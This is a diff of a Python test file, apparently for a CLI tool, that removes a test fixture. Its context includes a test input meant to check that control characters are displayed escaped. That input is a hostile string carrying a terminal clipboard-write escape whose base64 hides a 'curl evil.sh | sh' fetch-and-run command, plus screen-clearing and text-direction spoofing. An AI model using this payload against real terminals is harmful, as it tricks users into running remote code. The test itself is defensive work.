@@ -27,12 +27,6 @@ ANA = "+14165550123"
 HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\x1b[2J\x1b[H\u202eevil\rfake line"
 
 
-@pytest.fixture
-def cli_env(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, database_url: str) -> Path:
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("DATABASE_URL", database_url)
-    monkeypatch.setenv("PROMPTPIPE_STATE_DIR", str(tmp_path / "state"))
-    return tmp_path
 
 
 def test_control_characters_are_shown_escaped() -> None:
